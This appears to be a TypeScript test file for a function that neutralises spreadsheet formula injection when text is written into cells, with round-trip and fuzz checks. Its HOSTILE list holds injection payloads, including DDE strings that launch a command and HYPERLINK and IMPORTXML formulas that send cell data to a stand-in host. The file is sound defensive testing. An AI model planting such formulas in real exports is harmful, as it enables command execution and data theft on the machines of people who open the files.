import { sheetText, textOfSheet } from './sheet-text';
import { seededRandom } from './seeded-random';

const HOSTILE = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.invalid?x="&A1,"open")',
  '=IMPORTXML(CONCAT("http://example.invalid?",A1:E1),"//a")',
  '+1+1',
  '-1+1',
  "-2+3+cmd|' /C calc'!D2",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n@SUM(1)',
  ' =1+1',
  '\u00a0=1+1',
  '\u3000=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u202e=1+1',
  '\u0000=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '﹢1',
  '﹣1',
  "'=1+1",
  "''=1+1",
  "'\t=1+1",
];
const HARMLESS = ['', '整改完成', '3-(2)①', 'a=b', '1+1', "'quoted'", "it's", '（一）基本完成', '2020-07-01', '“=”号'];
/** What Excel, WPS and LibreOffice begin a formula with, once blanks are gone and wide signs are narrow. */
const starts = (cell: string): string =>
  cell
    .normalize('NFKC')
    .replace(/^[\s\p{Cf}\p{Cc}]+/u, '')
    .charAt(0);

/** As a program shows what the file says. */
const shown = (cell: string): string =>
  cell.replace(/_x([0-9a-f]{4})_/gi, (_, code: string) => String.fromCharCode(Number.parseInt(code, 16)));

describe('Text on its way into a cell', () => {
  it.each(['_x003D_1+1', '_x003d_1+1', 'a_x000D_=1', '_x005F_x003D_1'])('is never decoded into something else: %j', (text) => {
    expect(shown(sheetText(text))).toBe(text);
  });

  it.each(HOSTILE)('is never computed: %j', (text) => {
    const cell = sheetText(text);
    expect(cell).toBe(`'${text}`);
    expect(['=', '+', '-', '@']).not.toContain(starts(cell));
  });

  it.each(HARMLESS)('stays as it is where nothing would be computed: %j', (text) => {
    expect(sheetText(text)).toBe(text);
  });

  it('comes back as it was, whatever it was', () => {
    const seed = Date.now() % 2 ** 31;
    const random = seededRandom(seed);
    const pieces = ["'", '_x003D_', '_x', '=', '+', '-', '@', '\t', '\n', ' ', '＝', '\u200b', 'a', '整', '1'];
    for (let n = 0; n < 2_000; n++) {
      const text = Array.from({ length: random.below(6) }, () => random.pick(pieces)).join('');
      expect({ seed, text, back: textOfSheet(shown(sheetText(text))) }).toStrictEqual({ seed, text, back: text });
    }
    for (const text of [...HOSTILE, ...HARMLESS]) expect(textOfSheet(shown(sheetText(text)))).toBe(text);
  });
});
